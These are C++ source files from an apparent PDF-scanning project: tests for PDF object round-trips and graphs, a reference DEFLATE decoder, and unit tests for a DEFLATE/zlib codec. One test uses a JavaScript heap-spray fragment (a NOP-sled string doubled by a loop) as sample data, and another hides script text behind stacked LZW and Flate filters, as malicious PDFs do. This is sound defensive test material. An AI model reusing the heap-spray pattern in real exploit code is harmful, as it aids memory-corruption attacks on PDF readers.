        d.set(rng.identifier(1 + rng.below(8)), random_object(rng, depth + 1));
      }
      return pd::Object(d);
    }
  }
}

}  // namespace

TEST_P(PdfRoundTrip, RandomObjectTreesSurviveWriteParse) {
  sp::Rng rng(static_cast<std::uint64_t>(GetParam()) * 1000003u);
  pd::Document doc;
  const int count = 1 + static_cast<int>(rng.below(10));
  for (int i = 0; i < count; ++i) doc.add_object(random_object(rng, 0));
  pd::Document again = pd::parse_document(pd::write_document(doc));
  ASSERT_EQ(again.object_count(), doc.object_count());
  for (const auto& [num, obj] : doc.objects()) {
    EXPECT_EQ(*again.object({num, 0}), obj) << "object " << num;
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, PdfRoundTrip, ::testing::Range(1, 21));

// ---------------------------------------------------------------------------
// Object graph
// ---------------------------------------------------------------------------

TEST(Graph, ChildrenParentsAndClosures) {
  pd::Document doc;
  doc.set_object({1, 0}, pd::parse_object_text("<< /Next 2 0 R >>"));
  doc.set_object({2, 0}, pd::parse_object_text("<< /Next 3 0 R /Alt 4 0 R >>"));
  doc.set_object({3, 0}, pd::parse_object_text("(leaf)"));
  doc.set_object({4, 0}, pd::parse_object_text("(leaf2)"));
  pd::ObjectGraph g(doc);
  EXPECT_EQ(g.children(1), std::vector<int>{2});
  EXPECT_EQ(g.parents(3), std::vector<int>{2});
  EXPECT_EQ(g.descendants(1), (std::set<int>{2, 3, 4}));
  EXPECT_EQ(g.ancestors(4), (std::set<int>{1, 2}));
  EXPECT_TRUE(g.children(3).empty());
}

TEST(Graph, HandlesCycles) {
  pd::Document doc;
  doc.set_object({1, 0}, pd::parse_object_text("<< /Loop 2 0 R >>"));
  doc.set_object({2, 0}, pd::parse_object_text("<< /Loop 1 0 R >>"));
  pd::ObjectGraph g(doc);
  EXPECT_EQ(g.descendants(1), (std::set<int>{1, 2}));
  EXPECT_EQ(g.ancestors(1), (std::set<int>{1, 2}));
}

TEST(Graph, CollectRefsFindsNestedReferences) {
  pd::Object obj = pd::parse_object_text(
      "<< /A [1 0 R << /B 2 0 R >>] /C 3 0 R >>");
  auto refs = pd::collect_refs(obj);
  ASSERT_EQ(refs.size(), 3u);
  EXPECT_EQ(refs[0].num, 1);
  EXPECT_EQ(refs[1].num, 2);
  EXPECT_EQ(refs[2].num, 3);
}

TEST(Filters, LzwEncodeDecodeRoundTrip) {
  sp::Rng rng(31);
  for (std::size_t n : {0u, 1u, 5u, 100u, 5000u, 60000u}) {
    sp::Bytes data(n);
    for (auto& b : data) b = static_cast<std::uint8_t>(rng.below(8));  // low entropy
    sp::Bytes enc = pd::encode_filter("LZWDecode", data);
    EXPECT_EQ(pd::decode_filter("LZWDecode", enc, nullptr), data) << n;
  }
  // High-entropy data round-trips too (even if it expands).
  sp::Bytes noise = sp::Rng(32).bytes(4000);
  EXPECT_EQ(pd::decode_filter("LZWDecode",
                              pd::encode_filter("LZWDecode", noise), nullptr),
            noise);
}

TEST(Filters, LzwInMultiLevelChain) {
  sp::Bytes plain = sp::to_bytes("var js = 'hidden behind lzw and flate';");
  pd::EncodedStream enc = pd::encode_stream(plain, {"LZWDecode", "FlateDecode"});
  pd::Stream s;
  s.dict.set("Filter", enc.filter);
  s.data = enc.data;
  EXPECT_EQ(pd::decode_stream(s), plain);
}
