// Reference scalar DEFLATE decoder, retained for differential testing only.
//
// This is the pre-table-driven implementation the production codec grew out
// of: a canonical Huffman decoder that walks the code one bit per level and
// an inflate loop that emits one byte per push_back. It is slow and simple —
// exactly what a differential oracle should be. The production decoder in
// src/flate must stay byte-identical to this one on every valid stream.
#pragma once

#include <algorithm>
#include <array>
#include <cstdint>
#include <vector>

#include "support/bytes.hpp"
#include "support/checksum.hpp"
#include "support/error.hpp"

namespace pdfshield::reference {

using support::Bytes;
using support::BytesView;
using support::DecodeError;

/// Bit-at-a-time LSB-first reader (no fast path on purpose).
class BitReader {
 public:
  explicit BitReader(BytesView data) : data_(data) {}

  std::uint32_t read_bits(int n) {
    if (n == 0) return 0;
    while (nbits_ < n) {
      if (pos_ >= data_.size()) throw DecodeError("deflate stream truncated");
      acc_ |= static_cast<std::uint64_t>(data_[pos_++]) << nbits_;
      nbits_ += 8;
    }
    const std::uint32_t v = static_cast<std::uint32_t>(acc_ & ((1ull << n) - 1));
    acc_ >>= n;
    nbits_ -= n;
    return v;
  }

  std::uint32_t read_bit() { return read_bits(1); }

  void align_to_byte() {
    const int drop = nbits_ % 8;
    acc_ >>= drop;
    nbits_ -= drop;
  }

  Bytes read_aligned_bytes(std::size_t n) {
    align_to_byte();
    Bytes out;
    out.reserve(n);
    while (n > 0 && nbits_ >= 8) {
      out.push_back(static_cast<std::uint8_t>(acc_ & 0xff));
      acc_ >>= 8;
      nbits_ -= 8;
      --n;
    }
    if (n > data_.size() - pos_) throw DecodeError("stored block truncated");
    out.insert(out.end(), data_.begin() + static_cast<std::ptrdiff_t>(pos_),
               data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
    pos_ += n;
    return out;
  }

 private:
  BytesView data_;
  std::size_t pos_ = 0;
  std::uint64_t acc_ = 0;
  int nbits_ = 0;
};

/// Per-level canonical Huffman decoder (counts/offsets/first-code layout).
class HuffmanDecoder {
 public:
  explicit HuffmanDecoder(const std::vector<std::uint8_t>& lengths) {
    for (std::uint8_t l : lengths) max_len_ = std::max<int>(max_len_, l);
    if (max_len_ > 15) throw DecodeError("huffman code length > 15");
    counts_.assign(static_cast<std::size_t>(max_len_) + 1, 0);
    for (std::uint8_t l : lengths) {
      if (l > 0) ++counts_[l];
    }
    long long remaining = 1;
    for (int l = 1; l <= max_len_; ++l) {
      remaining <<= 1;
      remaining -= counts_[static_cast<std::size_t>(l)];
      if (remaining < 0) throw DecodeError("over-subscribed huffman code");
    }
    first_code_.assign(static_cast<std::size_t>(max_len_) + 1, 0);
    offsets_.assign(static_cast<std::size_t>(max_len_) + 1, 0);
    std::uint32_t code = 0;
    int offset = 0;
    for (int l = 1; l <= max_len_; ++l) {
      code = (code + static_cast<std::uint32_t>(counts_[static_cast<std::size_t>(l - 1)]))
             << 1;
      first_code_[static_cast<std::size_t>(l)] = code;
      offsets_[static_cast<std::size_t>(l)] = offset;
      offset += counts_[static_cast<std::size_t>(l)];
    }
    sorted_.resize(static_cast<std::size_t>(offset));
    std::vector<int> next(offsets_);
    for (std::size_t sym = 0; sym < lengths.size(); ++sym) {
      const int l = lengths[sym];
      if (l > 0) sorted_[static_cast<std::size_t>(next[static_cast<std::size_t>(l)]++)] =
          static_cast<int>(sym);
    }
  }

  int decode(BitReader& in) const {
    std::uint32_t code = 0;
    for (int l = 1; l <= max_len_; ++l) {
      code = (code << 1) | in.read_bit();
      const int count = counts_[static_cast<std::size_t>(l)];
      if (count > 0 &&
          code < first_code_[static_cast<std::size_t>(l)] +
                     static_cast<std::uint32_t>(count) &&
          code >= first_code_[static_cast<std::size_t>(l)]) {
        return sorted_[static_cast<std::size_t>(
            offsets_[static_cast<std::size_t>(l)] +
            static_cast<int>(code - first_code_[static_cast<std::size_t>(l)]))];
      }
    }
    throw DecodeError("invalid huffman code");
  }

 private:
  std::vector<int> counts_;
  std::vector<int> offsets_;
  std::vector<std::uint32_t> first_code_;
  std::vector<int> sorted_;
  int max_len_ = 0;
};

namespace detail {

constexpr std::array<int, 29> kLengthBase = {
    3,  4,  5,  6,  7,  8,  9,  10, 11,  13,  15,  17,  19,  23, 27,
    31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227, 258};
constexpr std::array<int, 29> kLengthExtra = {0, 0, 0, 0, 0, 0, 0, 0, 1, 1,
                                              1, 1, 2, 2, 2, 2, 3, 3, 3, 3,
                                              4, 4, 4, 4, 5, 5, 5, 5, 0};
constexpr std::array<int, 30> kDistBase = {
    1,    2,    3,    4,    5,    7,     9,     13,    17,   25,
    33,   49,   65,   97,   129,  193,   257,   385,   513,  769,
    1025, 1537, 2049, 3073, 4097, 6145,  8193,  12289, 16385, 24577};
constexpr std::array<int, 30> kDistExtra = {0, 0, 0,  0,  1,  1,  2,  2,  3,  3,
                                            4, 4, 5,  5,  6,  6,  7,  7,  8,  8,
                                            9, 9, 10, 10, 11, 11, 12, 12, 13, 13};
constexpr std::array<int, 19> kClOrder = {16, 17, 18, 0, 8,  7, 9,  6, 10, 5,
                                          11, 4,  12, 3, 13, 2, 14, 1, 15};

inline std::vector<std::uint8_t> fixed_literal_lengths() {
  std::vector<std::uint8_t> lens(288);
  for (int i = 0; i <= 143; ++i) lens[static_cast<std::size_t>(i)] = 8;
  for (int i = 144; i <= 255; ++i) lens[static_cast<std::size_t>(i)] = 9;
  for (int i = 256; i <= 279; ++i) lens[static_cast<std::size_t>(i)] = 7;
  for (int i = 280; i <= 287; ++i) lens[static_cast<std::size_t>(i)] = 8;
  return lens;
}

inline void inflate_block(BitReader& in, const HuffmanDecoder& lit,
                          const HuffmanDecoder* dist, Bytes& out,
                          std::size_t max_output) {
  while (true) {
    const int sym = lit.decode(in);
    if (sym == 256) return;
    if (sym < 256) {
      if (out.size() >= max_output) throw DecodeError("inflate output limit exceeded");
      out.push_back(static_cast<std::uint8_t>(sym));
      continue;
    }
    const int li = sym - 257;
    if (li < 0 || li >= static_cast<int>(kLengthBase.size())) {
      throw DecodeError("invalid length symbol");
    }
    const int length =
        kLengthBase[static_cast<std::size_t>(li)] +
        static_cast<int>(in.read_bits(kLengthExtra[static_cast<std::size_t>(li)]));
    if (dist == nullptr) throw DecodeError("length code without distance table");
    const int dsym = dist->decode(in);
    if (dsym < 0 || dsym >= static_cast<int>(kDistBase.size())) {
      throw DecodeError("invalid distance symbol");
    }
    const std::size_t distance =
        static_cast<std::size_t>(kDistBase[static_cast<std::size_t>(dsym)]) +
        in.read_bits(kDistExtra[static_cast<std::size_t>(dsym)]);
    if (distance > out.size()) throw DecodeError("distance beyond window start");
    if (out.size() + static_cast<std::size_t>(length) > max_output) {
      throw DecodeError("inflate output limit exceeded");
    }
    std::size_t from = out.size() - distance;
    for (int i = 0; i < length; ++i) {
      out.push_back(out[from + static_cast<std::size_t>(i)]);
    }
  }
}

inline void inflate_dynamic(BitReader& in, Bytes& out, std::size_t max_output) {
  const int hlit = static_cast<int>(in.read_bits(5)) + 257;
  const int hdist = static_cast<int>(in.read_bits(5)) + 1;
  const int hclen = static_cast<int>(in.read_bits(4)) + 4;

  std::vector<std::uint8_t> cl_lengths(19, 0);
  for (int i = 0; i < hclen; ++i) {
    cl_lengths[static_cast<std::size_t>(kClOrder[static_cast<std::size_t>(i)])] =
        static_cast<std::uint8_t>(in.read_bits(3));
  }
  const HuffmanDecoder cl_decoder(cl_lengths);

  std::vector<std::uint8_t> lengths;
  lengths.reserve(static_cast<std::size_t>(hlit + hdist));
  while (lengths.size() < static_cast<std::size_t>(hlit + hdist)) {
    const int sym = cl_decoder.decode(in);
    if (sym < 16) {
      lengths.push_back(static_cast<std::uint8_t>(sym));
    } else if (sym == 16) {
      if (lengths.empty()) throw DecodeError("repeat with no previous length");
      const int count = 3 + static_cast<int>(in.read_bits(2));
      for (int i = 0; i < count; ++i) lengths.push_back(lengths.back());
    } else if (sym == 17) {
      const int count = 3 + static_cast<int>(in.read_bits(3));
      lengths.insert(lengths.end(), static_cast<std::size_t>(count), 0);
    } else {
      const int count = 11 + static_cast<int>(in.read_bits(7));
      lengths.insert(lengths.end(), static_cast<std::size_t>(count), 0);
    }
  }
  if (lengths.size() != static_cast<std::size_t>(hlit + hdist)) {
    throw DecodeError("code length run overflows table");
  }

  std::vector<std::uint8_t> lit_lengths(lengths.begin(), lengths.begin() + hlit);
  std::vector<std::uint8_t> dist_lengths(lengths.begin() + hlit, lengths.end());
  const HuffmanDecoder lit(lit_lengths);
  bool has_dist = false;
  for (std::uint8_t l : dist_lengths) {
    if (l > 0) has_dist = true;
  }
  if (has_dist) {
    const HuffmanDecoder dist(dist_lengths);
    inflate_block(in, lit, &dist, out, max_output);
  } else {
    inflate_block(in, lit, nullptr, out, max_output);
  }
}

}  // namespace detail

/// Decompresses a raw DEFLATE stream (reference implementation).
inline Bytes inflate(BytesView compressed, std::size_t max_output = 1u << 30) {
  BitReader in(compressed);
  Bytes out;
  bool final_block = false;
  while (!final_block) {
    final_block = in.read_bit() != 0;
    const std::uint32_t type = in.read_bits(2);
    switch (type) {
      case 0: {
        in.align_to_byte();
        const std::uint32_t len = in.read_bits(16);
        const std::uint32_t nlen = in.read_bits(16);
        if ((len ^ 0xffffu) != nlen) throw DecodeError("stored block LEN/NLEN mismatch");
        if (out.size() + len > max_output) throw DecodeError("inflate output limit exceeded");
        Bytes raw = in.read_aligned_bytes(len);
        out.insert(out.end(), raw.begin(), raw.end());
        break;
      }
      case 1: {
        const HuffmanDecoder lit(detail::fixed_literal_lengths());
        const HuffmanDecoder dist(std::vector<std::uint8_t>(30, 5));
        detail::inflate_block(in, lit, &dist, out, max_output);
        break;
      }
      case 2:
        detail::inflate_dynamic(in, out, max_output);
        break;
      default:
        throw DecodeError("reserved deflate block type");
    }
  }
  return out;
}

/// Unwraps a zlib container with the reference inflate (mirrors
/// flate::zlib_decompress, including the Adler-32 verification).
inline Bytes zlib_decompress(BytesView stream, std::size_t max_output = 1u << 30) {
  if (stream.size() < 6) throw DecodeError("zlib stream too short");
  const std::uint8_t cmf = stream[0];
  const std::uint8_t flg = stream[1];
  if ((cmf & 0x0f) != 8) throw DecodeError("zlib: unsupported compression method");
  if ((static_cast<unsigned>(cmf) * 256 + flg) % 31 != 0) {
    throw DecodeError("zlib: header check failed");
  }
  if (flg & 0x20) throw DecodeError("zlib: preset dictionary not supported");
  const BytesView body = stream.subspan(2, stream.size() - 6);
  Bytes out = inflate(body, max_output);
  const std::size_t t = stream.size() - 4;
  const std::uint32_t expect = (static_cast<std::uint32_t>(stream[t]) << 24) |
                               (static_cast<std::uint32_t>(stream[t + 1]) << 16) |
                               (static_cast<std::uint32_t>(stream[t + 2]) << 8) |
                               static_cast<std::uint32_t>(stream[t + 3]);
  if (support::adler32(out) != expect) throw DecodeError("zlib: adler32 mismatch");
  return out;
}

}  // namespace pdfshield::reference
