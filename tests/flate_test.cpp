// Unit and property tests for the from-scratch DEFLATE/zlib codec.
#include <gtest/gtest.h>

#include <string>

#include "flate/bitstream.hpp"
#include "flate/deflate.hpp"
#include "flate/huffman.hpp"
#include "flate/inflate.hpp"
#include "flate/zlib.hpp"
#include "support/encoding.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"

namespace fl = pdfshield::flate;
namespace sp = pdfshield::support;

TEST(BitStream, ReaderReadsLsbFirst) {
  sp::Bytes data = {0b10110100, 0b00000001};
  fl::BitReader r(data);
  EXPECT_EQ(r.read_bits(3), 0b100u);
  EXPECT_EQ(r.read_bits(5), 0b10110u);
  EXPECT_EQ(r.read_bits(8), 1u);
  EXPECT_THROW(r.read_bits(1), sp::DecodeError);
}

TEST(BitStream, WriterReaderRoundTrip) {
  fl::BitWriter w;
  w.write_bits(0b101, 3);
  w.write_bits(0xABCD, 16);
  w.write_bits(1, 1);
  sp::Bytes buf = w.take();
  fl::BitReader r(buf);
  EXPECT_EQ(r.read_bits(3), 0b101u);
  EXPECT_EQ(r.read_bits(16), 0xABCDu);
  EXPECT_EQ(r.read_bits(1), 1u);
}

TEST(BitStream, AlignedBytesAfterBits) {
  fl::BitWriter w;
  w.write_bits(1, 1);
  w.align_to_byte();
  w.write_aligned_bytes(sp::to_bytes("xyz"));
  sp::Bytes buf = w.take();
  fl::BitReader r(buf);
  r.read_bits(1);
  EXPECT_EQ(sp::to_string(r.read_aligned_bytes(3)), "xyz");
}

TEST(Huffman, DecodesHandBuiltCode) {
  // Symbols 0,1 get 1-bit-ish canonical lengths {1,2,3,3}.
  std::vector<std::uint8_t> lens = {1, 2, 3, 3};
  fl::HuffmanDecoder dec(lens);
  auto codes = fl::assign_canonical_codes(lens);
  for (int sym = 0; sym < 4; ++sym) {
    fl::BitWriter w;
    w.write_huffman_code(codes[static_cast<std::size_t>(sym)].code,
                         codes[static_cast<std::size_t>(sym)].length);
    sp::Bytes buf = w.take();
    fl::BitReader r(buf);
    EXPECT_EQ(dec.decode(r), sym);
  }
}

TEST(Huffman, RejectsOversubscribedCode) {
  std::vector<std::uint8_t> bad = {1, 1, 1};
  EXPECT_THROW(fl::HuffmanDecoder dec(bad), sp::DecodeError);
}

TEST(Huffman, CanonicalCodesArePrefixFree) {
  std::vector<std::uint8_t> lens = {3, 3, 3, 3, 3, 2, 4, 4};
  auto codes = fl::assign_canonical_codes(lens);
  for (std::size_t a = 0; a < codes.size(); ++a) {
    for (std::size_t b = 0; b < codes.size(); ++b) {
      if (a == b) continue;
      const auto& ca = codes[a];
      const auto& cb = codes[b];
      if (ca.length > cb.length) continue;
      // ca must not be a prefix of cb.
      EXPECT_NE(ca.code, cb.code >> (cb.length - ca.length))
          << "symbol " << a << " prefixes symbol " << b;
    }
  }
}

TEST(Deflate, StoredRoundTrip) {
  const sp::Bytes data = sp::to_bytes("hello stored world");
  sp::Bytes c = fl::deflate(data, fl::DeflateStrategy::kStored);
  EXPECT_EQ(fl::inflate(c), data);
}

TEST(Deflate, StoredEmptyInput) {
  sp::Bytes c = fl::deflate({}, fl::DeflateStrategy::kStored);
  EXPECT_TRUE(fl::inflate(c).empty());
}

TEST(Deflate, StoredLargeInputSpansMultipleBlocks) {
  sp::Rng rng(11);
  sp::Bytes data = rng.bytes(200000);  // > 3 stored blocks
  sp::Bytes c = fl::deflate(data, fl::DeflateStrategy::kStored);
  EXPECT_EQ(fl::inflate(c), data);
}

TEST(Deflate, FixedRoundTripText) {
  const sp::Bytes data = sp::to_bytes(
      "function payload() { var s = unescape('%u9090%u9090'); while (s.length"
      " < 0x40000) s += s; return s; } payload(); payload(); payload();");
  sp::Bytes c = fl::deflate(data, fl::DeflateStrategy::kFixedHuffman);
  EXPECT_EQ(fl::inflate(c), data);
  // Repetitive text must actually compress.
  EXPECT_LT(c.size(), data.size());
}

TEST(Deflate, FixedRoundTripEmpty) {
  sp::Bytes c = fl::deflate({}, fl::DeflateStrategy::kFixedHuffman);
  EXPECT_TRUE(fl::inflate(c).empty());
}

TEST(Deflate, FixedHighlyRepetitiveCompressesHard) {
  sp::Bytes data(50000, static_cast<std::uint8_t>('A'));
  sp::Bytes c = fl::deflate(data);
  EXPECT_EQ(fl::inflate(c), data);
  EXPECT_LT(c.size(), data.size() / 50);
}

TEST(Inflate, RejectsReservedBlockType) {
  // First byte: BFINAL=1, BTYPE=3 (reserved).
  sp::Bytes bad = {0x07};
  EXPECT_THROW(fl::inflate(bad), sp::DecodeError);
}

TEST(Inflate, RejectsTruncatedStream) {
  sp::Bytes data = sp::to_bytes("some reasonably long test payload data");
  sp::Bytes c = fl::deflate(data);
  c.resize(c.size() / 2);
  EXPECT_THROW(fl::inflate(c), sp::DecodeError);
}

TEST(Inflate, EnforcesOutputLimit) {
  sp::Bytes data(10000, static_cast<std::uint8_t>('B'));
  sp::Bytes c = fl::deflate(data);
  EXPECT_THROW(fl::inflate(c, 100), sp::DecodeError);
}

TEST(Zlib, RoundTripAndHeader) {
  const sp::Bytes data = sp::to_bytes("zlib container payload");
  sp::Bytes z = fl::zlib_compress(data);
  ASSERT_GE(z.size(), 6u);
  EXPECT_EQ(z[0] & 0x0f, 8);  // deflate method
  EXPECT_EQ((static_cast<unsigned>(z[0]) * 256 + z[1]) % 31, 0u);
  EXPECT_EQ(fl::zlib_decompress(z), data);
}

TEST(Zlib, DetectsCorruptedChecksum) {
  sp::Bytes z = fl::zlib_compress(sp::to_bytes("checksum me"));
  z.back() ^= 0xff;
  EXPECT_THROW(fl::zlib_decompress(z), sp::DecodeError);
}

TEST(Zlib, DetectsBadHeader) {
  sp::Bytes z = fl::zlib_compress(sp::to_bytes("data"));
  z[0] = 0x00;
  EXPECT_THROW(fl::zlib_decompress(z), sp::DecodeError);
}

TEST(Zlib, RejectsTooShortStream) {
  sp::Bytes z = {0x78, 0x9c, 0x03};
  EXPECT_THROW(fl::zlib_decompress(z), sp::DecodeError);
}

// ---------------------------------------------------------------------------
// Property sweep: random buffers of varying size and entropy round-trip
// through every strategy and the zlib container.
// ---------------------------------------------------------------------------

struct FlateCase {
  std::size_t size;
  int alphabet;  // number of distinct byte values (entropy knob)
};

class FlateRoundTrip : public ::testing::TestWithParam<FlateCase> {};

TEST_P(FlateRoundTrip, AllStrategiesRoundTrip) {
  const auto& p = GetParam();
  sp::Rng rng(0x5eedu + p.size * 31 + static_cast<unsigned>(p.alphabet));
  sp::Bytes data(p.size);
  for (auto& b : data) {
    b = static_cast<std::uint8_t>(rng.below(static_cast<std::uint64_t>(p.alphabet)));
  }
  for (auto strat : {fl::DeflateStrategy::kStored, fl::DeflateStrategy::kFixedHuffman}) {
    sp::Bytes c = fl::deflate(data, strat);
    EXPECT_EQ(fl::inflate(c), data);
  }
  EXPECT_EQ(fl::zlib_decompress(fl::zlib_compress(data)), data);
}

INSTANTIATE_TEST_SUITE_P(
    Sizes, FlateRoundTrip,
    ::testing::Values(FlateCase{0, 1}, FlateCase{1, 256}, FlateCase{2, 2},
                      FlateCase{3, 256}, FlateCase{17, 4}, FlateCase{256, 256},
                      FlateCase{1000, 2}, FlateCase{4096, 16},
                      FlateCase{65535, 256}, FlateCase{65536, 3},
                      FlateCase{70000, 64}, FlateCase{120000, 8}));

// ---------------------------------------------------------------------------
// Fast-path regressions: stored blocks crossing the 64-bit refill boundary,
// malformed streams (over-subscribed / incomplete codes, truncation,
// distances beyond the window), and exact max_output accounting. All the
// malformed cases must raise DecodeError — never read out of bounds (the
// sanitizer jobs enforce the second half).
// ---------------------------------------------------------------------------

namespace {

/// Code-length vector of the fixed literal/length alphabet (RFC 1951 §3.2.6).
std::vector<std::uint8_t> fixed_lit_lengths() {
  std::vector<std::uint8_t> lens(288);
  for (int i = 0; i <= 143; ++i) lens[static_cast<std::size_t>(i)] = 8;
  for (int i = 144; i <= 255; ++i) lens[static_cast<std::size_t>(i)] = 9;
  for (int i = 256; i <= 279; ++i) lens[static_cast<std::size_t>(i)] = 7;
  for (int i = 280; i <= 287; ++i) lens[static_cast<std::size_t>(i)] = 8;
  return lens;
}

void write_fixed_symbol(fl::BitWriter& w,
                        const std::vector<fl::HuffmanCode>& codes, int sym) {
  w.write_huffman_code(codes[static_cast<std::size_t>(sym)].code,
                       codes[static_cast<std::size_t>(sym)].length);
}

}  // namespace

TEST(BitStream, ReadAlignedBytesDrainsBufferedBytes) {
  // After the 64-bit refill, up to 7 whole bytes can sit in the
  // accumulator when a stored block starts; read_aligned_bytes must drain
  // them before touching the byte stream again.
  sp::Bytes data(20);
  for (std::size_t i = 0; i < data.size(); ++i) {
    data[i] = static_cast<std::uint8_t>(i * 13 + 1);
  }
  fl::BitReader r(data);
  EXPECT_EQ(r.read_bits(3), data[0] & 0x7u);  // forces a wide refill
  sp::Bytes got = r.read_aligned_bytes(10);
  ASSERT_EQ(got.size(), 10u);
  for (std::size_t i = 0; i < got.size(); ++i) {
    EXPECT_EQ(got[i], data[i + 1]) << "byte " << i;
  }
  // And the remainder is still readable bit-by-bit.
  EXPECT_EQ(r.read_bits(8), data[11]);
}

TEST(Inflate, StoredBlockAfterHuffmanBlockCrossesRefillBoundary) {
  // A fixed-Huffman block followed by a stored block: when the stored
  // block begins, the reader's accumulator holds look-ahead bytes from the
  // wide refill, so LEN/NLEN and the raw payload straddle the buffered /
  // unbuffered boundary.
  const auto codes = fl::assign_canonical_codes(fixed_lit_lengths());
  fl::BitWriter w;
  w.write_bits(0, 1);  // BFINAL=0
  w.write_bits(1, 2);  // fixed Huffman
  for (char c : std::string("AB")) write_fixed_symbol(w, codes, c);
  write_fixed_symbol(w, codes, 256);  // end of block
  w.write_bits(1, 1);  // BFINAL=1
  w.write_bits(0, 2);  // stored
  w.align_to_byte();
  const std::string raw = "CDEFGHIJKLMNOPQRSTUVWXYZ";
  w.write_bits(static_cast<std::uint32_t>(raw.size()), 16);
  w.write_bits(static_cast<std::uint32_t>(raw.size()) ^ 0xffffu, 16);
  w.write_aligned_bytes(sp::to_bytes(raw));
  EXPECT_EQ(sp::to_string(fl::inflate(w.take())), "AB" + raw);
}

TEST(Inflate, RejectsOverSubscribedCodeLengthCode) {
  // Dynamic block whose code-length code has three 1-bit codes: the Kraft
  // sum exceeds 1, which the table builder must reject up front.
  fl::BitWriter w;
  w.write_bits(1, 1);  // BFINAL
  w.write_bits(2, 2);  // dynamic
  w.write_bits(0, 5);  // HLIT  -> 257
  w.write_bits(0, 5);  // HDIST -> 1
  w.write_bits(0, 4);  // HCLEN -> 4 entries (symbols 16, 17, 18, 0)
  for (int len : {1, 1, 1, 0}) w.write_bits(static_cast<std::uint32_t>(len), 3);
  EXPECT_THROW(fl::inflate(w.take()), sp::DecodeError);
}

TEST(Inflate, RejectsUnassignedCodeInIncompleteCode) {
  // Incomplete code-length code {1, 2} leaves the pattern "11" unassigned;
  // a stream steering into it must fail, not decode garbage.
  fl::BitWriter w;
  w.write_bits(1, 1);  // BFINAL
  w.write_bits(2, 2);  // dynamic
  w.write_bits(0, 5);
  w.write_bits(0, 5);
  w.write_bits(0, 4);  // HCLEN -> symbols 16, 17, 18, 0
  for (int len : {1, 2, 0, 0}) w.write_bits(static_cast<std::uint32_t>(len), 3);
  w.write_bits(0b11, 2);  // the hole in the code space
  // Padding so the failure is an invalid code, not plain truncation.
  w.align_to_byte();
  w.write_aligned_bytes(sp::Bytes(8, 0xff));
  EXPECT_THROW(fl::inflate(w.take()), sp::DecodeError);
}

TEST(Huffman, RejectsCodeLengthAbove15) {
  std::vector<std::uint8_t> lens = {16};
  EXPECT_THROW(fl::HuffmanDecoder dec(lens), sp::DecodeError);
}

TEST(Inflate, RejectsDistanceBeyondWindowStart) {
  // One literal of history, then a match at distance 4.
  const auto codes = fl::assign_canonical_codes(fixed_lit_lengths());
  fl::BitWriter w;
  w.write_bits(1, 1);  // BFINAL
  w.write_bits(1, 2);  // fixed Huffman
  write_fixed_symbol(w, codes, 'a');
  write_fixed_symbol(w, codes, 257);  // length 3, no extra bits
  w.write_huffman_code(3, 5);        // distance symbol 3 -> distance 4
  write_fixed_symbol(w, codes, 256);
  EXPECT_THROW(fl::inflate(w.take()), sp::DecodeError);
}

TEST(Inflate, TruncationAtEveryStageRaisesDecodeError) {
  // Cut a real compressed stream at points that land mid-header,
  // mid-symbol, and mid-refill; every prefix must throw (never crash or
  // read past the buffer -- the ASan job double-checks that). The zlib
  // container makes truncation unambiguous: even a cut that happens to end
  // on a self-consistent deflate prefix fails the Adler-32 check.
  sp::Rng rng(0x7040);
  sp::Bytes data(100000);
  for (auto& b : data) b = static_cast<std::uint8_t>(rng.below(24));
  const sp::Bytes z = fl::zlib_compress(data);
  ASSERT_GT(z.size(), 64u);
  const std::size_t cuts[] = {1, 2, 5, 6, 7, 8, 9, 15, 16, 17,
                              z.size() / 3, z.size() / 2, z.size() - 9,
                              z.size() - 8, z.size() - 5, z.size() - 1};
  for (std::size_t cut : cuts) {
    EXPECT_THROW(
        fl::zlib_decompress(sp::BytesView(z.data(), cut)), sp::DecodeError)
        << "cut at " << cut;
  }
}

TEST(Inflate, TruncatedRawDeflateMidRefillRaisesDecodeError) {
  // Raw deflate (no container): cut inside the compressed body so the
  // 64-bit refill runs out mid-symbol. The zero padding above the valid
  // bits must never decode as a phantom symbol.
  sp::Bytes data(5000, 0x41);
  const sp::Bytes c = fl::deflate(data);
  for (std::size_t cut = 1; cut + 1 < c.size(); cut += 3) {
    try {
      const sp::Bytes out = fl::inflate(sp::BytesView(c.data(), cut));
      // A prefix may form a complete valid stream by chance; if it does,
      // it must still be a prefix-consistent decode, never garbage longer
      // than the original.
      EXPECT_LE(out.size(), data.size()) << "cut at " << cut;
    } catch (const sp::DecodeError&) {
      // expected for nearly every cut
    }
  }
}

TEST(Inflate, MaxOutputAccountingIsExact) {
  // limit == decoded size must pass; limit == size-1 must throw, for both
  // a literal-heavy and a match-heavy stream (the two OutputSink paths).
  sp::Rng rng(0x11ab);
  sp::Bytes literals(3000);
  for (auto& b : literals) b = static_cast<std::uint8_t>(rng.below(256));
  sp::Bytes matches(3000, 0x2a);
  for (const sp::Bytes* data : {&literals, &matches}) {
    const sp::Bytes c = fl::deflate(*data);
    EXPECT_EQ(fl::inflate(c, data->size()), *data);
    EXPECT_THROW(fl::inflate(c, data->size() - 1), sp::DecodeError);
  }
}

TEST(Zlib, MaxOutputGuardsStoredBlocks) {
  sp::Bytes data(4096, 0x55);
  const sp::Bytes z = fl::zlib_compress(data, fl::DeflateStrategy::kStored);
  EXPECT_EQ(fl::zlib_decompress(z, data.size()), data);
  EXPECT_THROW(fl::zlib_decompress(z, data.size() - 1), sp::DecodeError);
}

TEST(Inflate, OverlappedMatchesReproducePeriodicPatterns) {
  // dist < len back-references (the doubling-copy path): periodic data at
  // every period length that straddles the chunking strategy.
  for (std::size_t period : {1u, 2u, 3u, 4u, 7u, 8u, 15u, 31u, 257u}) {
    sp::Bytes data(20000);
    for (std::size_t i = 0; i < data.size(); ++i) {
      data[i] = static_cast<std::uint8_t>('a' + (i % period) % 26);
    }
    EXPECT_EQ(fl::inflate(fl::deflate(data)), data) << "period " << period;
  }
}
