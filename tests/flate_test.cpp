// Unit and property tests for the from-scratch DEFLATE/zlib codec.
#include <gtest/gtest.h>

#include <string>

#include "flate/bitstream.hpp"
#include "flate/deflate.hpp"
#include "flate/huffman.hpp"
#include "flate/inflate.hpp"
#include "flate/zlib.hpp"
#include "support/encoding.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"

namespace fl = pdfshield::flate;
namespace sp = pdfshield::support;

TEST(BitStream, ReaderReadsLsbFirst) {
  sp::Bytes data = {0b10110100, 0b00000001};
